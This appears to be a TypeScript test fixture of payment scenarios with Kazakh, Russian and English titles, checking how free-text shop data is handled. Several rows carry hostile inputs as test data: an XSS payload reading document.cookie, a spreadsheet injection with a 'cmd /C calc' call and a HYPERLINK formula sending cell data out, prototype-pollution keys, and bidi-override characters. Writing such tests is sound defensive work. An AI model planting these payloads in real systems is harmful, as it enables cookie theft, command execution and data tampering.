import { found, foundReply } from "../answers/replies.ts";
import { transaction } from "../answers/transaction.ts";
import type { ScenarioRow } from "../scenario.ts";

const LONG_TEXT = "0123456789".repeat(10_240);
const DEEP_JSON = `${'{"in":'.repeat(200)}"bottom"${"}".repeat(200)}`;

/** Data that the shop attached to the payment, and other free text. */
export const DATA: readonly ScenarioRow[] = [
  {
    invoice: "10000701",
    title: { kk: "Деректер: JSON", ru: "Данные: JSON", en: "Data: JSON" },
    payment: found("CHARGE", {
      data: '{"order":"A-1207","items":[{"name":"Кофе","count":2}],"courier":"Ерлан"}',
    }),
  },
  {
    invoice: "10000702",
    title: {
      kk: "Деректер: сілтемедегідей параметрлер",
      ru: "Данные: параметры, как в ссылке",
      en: "Data: a query string",
    },
    payment: found("CHARGE", {
      data: "order=A-1207&branch=Almaty-1&note=%D0%BA%D0%BE%D1%84%D0%B5&gift",
    }),
  },
  {
    invoice: "10000703",
    title: { kk: "Деректер: жай мәтін", ru: "Данные: простой текст", en: "Data: plain text" },
    payment: found("CHARGE", { data: "Сыйлық қорапқа салу керек, 18:00-ге дейін" }),
  },
  {
    invoice: "10000704",
    title: { kk: "Деректер бос", ru: "Данные пустые", en: "Data: empty" },
    payment: found("CHARGE", { data: "" }),
  },
  {
    invoice: "10000705",
    title: { kk: "Деректер жоқ", ru: "Данных нет", en: "Data: absent" },
    payment: found("CHARGE", { data: undefined }),
  },
  {
    invoice: "10000706",
    title: {
      kk: "Деректер тым ұзын (100 кБ)",
      ru: "Очень длинные данные (100 кБ)",
      en: "Data: very long (100 kB)",
    },
    payment: found("CHARGE", { data: LONG_TEXT }),
  },
  {
    invoice: "10000707",
    title: {
      kk: "Деректер: 200 қабат JSON",
      ru: "Данные: JSON глубиной в 200 уровней",
      en: "Data: JSON 200 levels deep",
    },
    payment: found("CHARGE", { data: DEEP_JSON }),
  },
  {
    invoice: "10000708",
    title: {
      kk: "Деректердің ішінде карта нөмірі бар",
      ru: "Внутри данных номер карты",
      en: "A card number inside the data",
    },
    payment: found("CHARGE", {
      data: '{"order":"A-1207","card":"4111111111111111","note":"5555 5555-5555 4444"}',
    }),
  },
  {
    invoice: "10000709",
    title: { kk: "Деректердің ішінде HTML бар", ru: "Внутри данных HTML", en: "HTML in the data" },
    payment: found("CHARGE", {
      data: '<img src=x onerror="alert(1)"><script>alert(document.cookie)</script>',
      description: "<b>order</b> 10000709",
    }),
  },
  {
    invoice: "10000710",
    title: {
      kk: "Жазу бағытын бұратын таңбалар мен эмодзи",
      ru: "Знаки, меняющие направление письма, и эмодзи",
      en: "Marks that turn the writing direction, and emoji",
    },
    payment: found("CHARGE", {
      data: "note \u202Eevas ot drac\u202C \u2066x\u2069 👩‍👩‍👧‍👦",
      name: "AIGERIM \u202EAVOKIRES",
      description: "order\u0000\r\n10000710",
    }),
  },
  {
    invoice: "10000711",
    title: {
      kk: "Кесте формуласы",
      ru: "Формула для таблицы",
      en: "A spreadsheet formula",
    },
    payment: found("CHARGE", {
      data: '=HYPERLINK("https://example.com/?x="&A1,"open")',
      description: "@SUM(1+1)*cmd|' /C calc'!A0",
      name: "-2+3",
    }),
  },
  {
    invoice: "10000712",
    title: {
      kk: "Деректер мәтін емес, объект",
      ru: "Данные не текстом, а объектом",
      en: "Data: an object, not a text",
    },
    payment: found("CHARGE", { data: { order: "A-1207", sum: 4990 } }),
  },
  {
    invoice: "10000713",
    title: {
      kk: "JSON ішіндегі JSON",
      ru: "JSON внутри JSON",
      en: "JSON inside JSON",
    },
    payment: found("CHARGE", {
      data: JSON.stringify({ body: JSON.stringify({ order: "A-1207", sum: 4990 }) }),
    }),
  },
  {
    invoice: "10000714",
    title: {
      kk: "Деректерде сатып алушының дербес деректері бар",
      ru: "В данных персональные данные покупателя",
      en: "The customer’s personal data among the shop’s data",
    },
    payment: found("CHARGE", {
      data: '{"email":"olga.kim@example.com","phone":"77000001122","address":"Абай даңғылы, 10"}',
      accountID: "olga.kim@example.com",
    }),
  },
  {
    invoice: "10000715",
    title: {
      kk: "Бізге белгісіз өрістер",
      ru: "Поля, которых мы не знаем",
      en: "Fields that we do not know",
    },
    payment: (asked) =>
      foundReply({
        ...transaction(asked),
        loyaltyTier: "GOLD",
        installments: { months: 3, plan: "0-0-3" },
        ["__proto__"]: { statusName: "CHARGE" },
        constructor: { prototype: { amount: 1 } },
      }),
  },
  {
    invoice: "10000716",
    title: {
      kk: "Төлеуші туралы ештеңе жоқ",
      ru: "О плательщике ничего не сказано",
      en: "Nothing is said about the payer",
    },
    payment: found("CHARGE", { name: "", email: null, phone: undefined, accountID: "" }),
  },
  {
    invoice: "10000717",
    title: {
      kk: "Қазақша сипаттама мен есім",
      ru: "Описание и имя на казахском",
      en: "Description and name in Kazakh",
    },
    payment: found("CHARGE", {
      description: "Тапсырыс №17: ұлттық ою-өрнек",
      name: "Әсел Өмірқызы",
    }),
  },
];
